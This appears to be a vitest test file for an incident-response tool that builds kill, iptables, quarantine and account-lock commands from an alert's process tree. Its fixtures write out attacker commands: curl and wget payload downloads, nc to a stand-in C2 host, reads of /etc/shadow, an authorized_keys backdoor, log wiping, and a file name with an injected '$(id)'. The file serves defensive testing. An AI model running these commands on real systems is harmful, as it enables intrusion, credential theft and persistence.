import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { toSampleAlert } from '../../test/browser_app/sample_alerts';
import { toSampleStory, toStoryProcess, toStoryTree } from '../../test/browser_app/sample_story';
import { RESPONSE_STEP, toResponseCommands } from './response_commands';
import { toResponseFacts, type ResponseFacts } from './response_facts';

const toFacts = (script: string, part: object = {}): ResponseFacts =>
  toResponseFacts(
    toSampleAlert(),
    toSampleStory({
      trees: [
        toStoryTree([toStoryProcess(50, ['curl', 'http://198.51.100.7/other'])]),
        toStoryTree([
          toStoryProcess(0, ['sh', '-c', script], { isOfAlert: true, ...part }),
          toStoryProcess(1, ['nc'], { pid: 4800 }),
        ]),
      ],
    })
  );

test('stops, blocks, removes and locks what the alert’s own tree shows', () => {
  const facts = toFacts(
    'curl http://203.0.113.9/x -o /tmp/x; ping 10.0.0.7; nc evil.test-c2.net 1'
  );
  expect(toResponseCommands(RESPONSE_STEP.stop, facts)).toEqual([
    'ps -o pid,ppid,lstart,args -p 4711,4800',
    'kill -STOP 4711 4800',
    'kill -KILL 4711 4800',
  ]);
  expect(toResponseCommands(RESPONSE_STEP.block, facts)).toEqual([
    'iptables -I OUTPUT -d 203.0.113.9 -j REJECT',
    'iptables -I INPUT -s 203.0.113.9 -j DROP',
    "echo '0.0.0.0 evil.test-c2.net' >> /etc/hosts",
  ]);
  expect(toResponseCommands(RESPONSE_STEP.remove, facts)).toContain('sha256sum -- /tmp/x');
  expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual(['passwd --lock www-data']);
  expect(toResponseCommands(RESPONSE_STEP.restrict, facts)[0]).toContain('--uid-owner www-data');
  expect(toResponseCommands(RESPONSE_STEP.scan, facts)[0]).toContain('/srv/www');
});

test('isolates in one command, so that nobody cuts himself off half-way', () => {
  const lines = toResponseCommands(RESPONSE_STEP.isolate, toFacts('id'));
  expect(lines.filter((line) => !line.startsWith('#'))).toHaveLength(1);
});

test('quotes what an attacker named so that a shell reads it as a name', () => {
  const name = `/tmp/a'; touch pwned; $(id) "b`;
  const facts = { ...toFacts('id'), madeFiles: [name] };
  for (const line of toResponseCommands(RESPONSE_STEP.remove, facts)) {
    const words = execFileSync('sh', ['-c', `printf '%s\\n' ${line}`])
      .toString()
      .split('\n');
    expect(words.some((word) => word.startsWith(name))).toBe(true);
  }
});

test('leaves out names that are options, more than one line, or hide something', () => {
  const facts = toFacts('id', {
    user: '--root=/x',
    activities: [
      { kind: 'file', time: '', action: 'creation', target: '/tmp/a\nreboot' },
      { kind: 'file', time: '', action: 'creation', target: '/tmp/\u202eevil' },
    ],
  });
  expect(facts.madeFiles).toEqual([]);
  expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual(['passwd --lock www-data']);
});

test('has nothing to run where nothing is known', () => {
  const facts = toResponseFacts({ event: {} }, undefined);
  for (const step of Object.values(RESPONSE_STEP).filter((one) => one !== RESPONSE_STEP.isolate)) {
    expect(toResponseCommands(step, facts)).toEqual([]);
  }
});

const removing = (script: string, part: object = {}): readonly string[] =>
  toResponseCommands(RESPONSE_STEP.remove, toFacts(script, part));

test.each([
  'cat /etc/passwd /etc/shadow > /dev/null',
  'cp /etc/shadow /tmp',
  'cat /tmp/../etc/passwd',
  'ls -la /tmp/ /var/tmp /dev/shm',
  'cat /var/www/html/config.php',
  'python3 /usr/lib/x.py',
])('never offers root to take away what was only read: %s', (script) => {
  expect(
    removing(script).filter((line) => line.startsWith('mv ') && !line.includes('/tmp/shadow'))
  ).toEqual([]);
});

test.each([
  ['echo x >> /etc/passwd', '/etc/passwd'],
  ['cp /tmp/a /usr/sbin/sshd', '/usr/sbin/sshd'],
  ['curl http://203.0.113.9/k >> /var/www/.ssh/authorized_keys', '/var/www/.ssh/authorized_keys'],
  [': > /var/log/auth.log', '/var/log/auth.log'],
  ['cd /etc && echo x > passwd', '/etc/passwd'],
])('has a changed file of the machine looked at, not moved: %s', (script, path) => {
  const lines = removing(script);
  expect(lines).toContain(`stat -- ${path}`);
  expect(lines.join('\n')).not.toContain(`mv -n -- ${path} `);
});

test('takes away what was made in the folder that the command went to', () => {
  const lines = removing('cd /srv/app && curl http://203.0.113.9/k -o k.sh', {
    workingDirectory: '/srv/www',
  });
  expect(lines).toContain('sha256sum -- /srv/app/k.sh');
});

test.each([
  ['cp /tmp/x.php /var/www/html', '/var/www/html'],
  ['mv shell.php /srv/app', '/srv/app'],
  ['ln -s /etc /srv/files', '/srv/files'],
  ['tee /srv/www', '/srv/www'],
])('never offers root to take a whole folder of the machine away: %s', (script, folder) => {
  const lines = removing(script, { workingDirectory: '/srv/www' });
  expect(lines.filter((line) => line.startsWith(`mv -n -- ${folder} `))).toEqual([]);
});

test('takes code away that was copied under a name of its own', () => {
  expect(removing('cp /tmp/x /srv/app/b.php')).toContain(
    'mv -n -- /srv/app/b.php /srv/app/b.php.quarantine'
  );
});

test('offers nothing for a path that only the intruder’s shell knows', () => {
  expect(removing('id > ~/x; id > $HOME/y').filter((line) => line.startsWith('mv '))).toEqual([]);
});

test('takes away what the intruder wrote, where his words or a file event say so', () => {
  const activities = [
    { kind: 'file', time: '', action: 'creation', target: '/srv/www/up/x.php' },
    { kind: 'file', time: '', action: 'creation', target: '/etc/cron.d/x' },
    { kind: 'file', time: '', action: 'modification', target: '/srv/www/index.php' },
    { kind: 'file', time: '', action: 'deletion', target: '/srv/www/old.php' },
  ];
  const lines = removing('echo "<?php" > img/.c.php; wget -O /opt/app/m http://203.0.113.9/m', {
    workingDirectory: '/srv/www',
    activities,
  });
  expect(lines.filter((line) => !line.startsWith('sha256sum'))).toEqual([
    'mv -n -- /srv/www/img/.c.php /srv/www/img/.c.php.quarantine',
    'mv -n -- /opt/app/m /opt/app/m.quarantine',
    'mv -n -- /srv/www/up/x.php /srv/www/up/x.php.quarantine',
    'stat -- /etc/cron.d/x',
    'stat -- /srv/www/index.php',
  ]);
});

test('moves a folder whole, after what is in it was hashed', () => {
  expect(
    removing('mkdir /var/tmp/.ice && wget -O /var/tmp/.ice/bioset http://203.0.113.9/b')
  ).toEqual([
    'sha256sum -- /var/tmp/.ice/bioset',
    'mv -n -- /var/tmp/.ice /var/tmp/.ice.quarantine',
  ]);
});

test('restricts only accounts that commands ran as, and locks those they name too', () => {
  const facts = toFacts('useradd -m -s /bin/bash support');
  expect(toResponseCommands(RESPONSE_STEP.restrict, facts)).toHaveLength(1);
  expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual([
    'passwd --lock www-data',
    'passwd --lock support',
  ]);
});
